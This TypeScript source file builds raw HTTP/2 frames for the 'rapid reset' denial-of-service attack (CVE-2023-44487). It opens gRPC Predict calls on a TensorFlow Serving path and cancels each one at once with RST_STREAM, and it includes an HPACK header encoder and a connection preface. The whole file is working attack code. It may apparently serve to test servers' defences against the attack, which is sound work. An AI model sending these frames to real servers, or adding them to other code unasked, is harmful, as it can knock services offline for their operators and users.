/** Frames of HTTP/2 that begin calls of gRPC and take them back at once (CVE-2023-44487, "rapid reset"): no client library sends these. */

/** The method that is called. */
export const PREDICT_PATH = '/tensorflow.serving.PredictionService/Predict';

/** What a client says first, with settings that change nothing (RFC 9113, 3.4). */
export const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0)]);

const END_HEADERS = 0x4;
/** RFC 9113, 7. */
const CANCEL = 8;

/** Calls that begin and are taken back, the `first` of their connection being number 0. */
export function resetFrames(first: number, count: number, code = CANCEL): Buffer {
  return Buffer.concat(
    Array.from({ length: count }, (_, at) => {
      const stream = 2 * (first + at) + 1;
      return [frame(0x1, END_HEADERS, stream, HEADERS), frame(0x3, 0, stream, Buffer.of(0, 0, 0, code))];
    }).flat(),
  );
}

/** RFC 9113, 4.1. */
function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A name of HPACK's static table, or one that is spelled out, with a value (RFC 7541, 6.2.2); both below 127 bytes. */
function field(name: readonly number[] | string, value: string): Buffer {
  const spelled = (text: string) => Buffer.concat([Buffer.of(text.length), Buffer.from(text)]);
  const named = typeof name === 'string' ? Buffer.concat([Buffer.of(0), spelled(name)]) : Buffer.from(name);
  return Buffer.concat([named, spelled(value)]);
}

const HEADERS = Buffer.concat([
  // `:method: POST` and `:scheme: http`.
  Buffer.of(0x83, 0x86),
  field([0x04], PREDICT_PATH),
  field([0x01], 'localhost'),
  field([0x0f, 0x10], 'application/grpc'),
  field('te', 'trailers'),
]);
